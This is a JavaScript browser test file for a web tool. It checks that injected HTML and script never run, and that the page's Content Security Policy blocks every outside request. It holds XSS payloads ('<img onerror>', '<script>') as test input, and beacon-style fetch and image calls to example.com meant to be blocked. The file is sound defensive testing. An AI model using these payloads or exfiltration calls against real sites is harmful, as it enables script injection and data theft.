// Nothing leaves the page, and user text is never markup.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { useServerAndBrowser, newPage, ready, setText, waitFor, json } from './harness.mjs';

const env = useServerAndBrowser();

const IMG = '<img src=x onerror="window.__pwned=(window.__pwned||0)+1">';

test('an injected <img onerror> in a name, a pattern or the log does nothing', async () => {
  const { page, context, errors } = await newPage(env.browser);
  await page.goto(env.server.url);
  await ready(page);
  await setText(page, '#definitions', json([[IMG, 'loss=([0-9.]+)'], ['bad <b>x</b>', `${IMG}(`], ['plain', '(<img[^>]*>)']]));
  await setText(page, '#log', `${IMG} loss=0.5\n<script>window.__pwned=9</script> loss=0.25 ${IMG}\n`);
  await waitFor(page, () => [...__root().querySelectorAll('[data-metric]')].some((e) => e.dataset.metric.startsWith('<img') && e.dataset.count === '2'));
  await page.click('#export');
  await page.click('#dialog-tabs [data-tab="python"]');
  await page.keyboard.press('Escape');
  await page.click('#share');
  await page.keyboard.press('Escape');
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => __root().querySelectorAll('img, script:not([src])').length), 0);
  assert.equal(await page.evaluate(() => [...__root().querySelectorAll('b')].filter((b) => b.textContent === 'x').length), 0);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  // The name is shown as text.
  const names = await page.$$eval('.card-name', (els) => els.map((e) => e.textContent));
  assert.ok(names.includes(IMG), names.join(' | '));
  const shown = await page.$$eval('#backdrop .ln', (els) => els.map((e) => e.textContent));
  assert.equal(shown[0], `${IMG} loss=0.5`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('no request leaves the page, and the CSP forbids any', async () => {
  const { page, context, requests, errors } = await newPage(env.browser);
  const violations = [];
  await page.exposeFunction('__violation', (v) => violations.push(v));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => window.__violation(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await page.goto(env.server.url);
  await ready(page);
  // Use the page: every example, typing, options, export, link.
  for (const id of ['gan', 'xgboost', 'huggingface', 'sdk-v3']) {
    await page.selectOption('#example', id);
    await page.waitForTimeout(200);
  }
  await setText(page, '#log', 'loss=0.5 https://example.com/x.png\n');
  await page.click('label:has(#opt-escape)');
  await page.click('label:has(#opt-all)');
  // Both buttons open a dialog (share only once the link is compressed): wait for
  // it before closing it, and for it to close before going on.
  for (const button of ['#export', '#share']) {
    await page.click(button);
    await page.waitForSelector('#dialog[open]');
    await page.keyboard.press('Escape');
    await page.waitForSelector('#dialog:not([open])', { state: 'attached' });
  }
  await page.click('#theme');
  await page.waitForTimeout(300);
  const outside = requests.filter((url) => !url.startsWith(env.server.url) && !url.startsWith('data:') && !url.startsWith('blob:'));
  assert.deepEqual(outside, []);
  assert.deepEqual(violations, []);
  assert.deepEqual(errors, []);

  // The page declares a policy that forbids connections elsewhere, and the browser applies it.
  const csp = await page.$eval('meta[http-equiv="Content-Security-Policy"]', (m) => m.content);
  assert.match(csp, /default-src 'self'/);
  assert.match(csp, /connect-src 'self'/);
  assert.doesNotMatch(csp, /unsafe-inline/);
  const attempt = await page.evaluate(() => fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'));
  assert.equal(attempt, 'blocked');
  const image = await page.evaluate(() => new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve('loaded');
    img.onerror = () => resolve('blocked');
    img.src = 'https://example.com/pixel.gif';
  }));
  assert.equal(image, 'blocked');
  // The evaluation worker is held to the same policy (scripts/serve.mjs sends it as a header).
  const [worker] = page.workers();
  assert.ok(worker, 'the evaluation worker runs');
  assert.equal(await worker.evaluate(() => fetch('https://example.com/collect').then(() => 'sent', () => 'blocked')), 'blocked');
  await page.waitForTimeout(100);
  assert.ok(violations.some((v) => v.startsWith('connect-src')), violations.join(', '));
  assert.ok(violations.some((v) => v.startsWith('img-src')), violations.join(', '));
  await context.close();
});
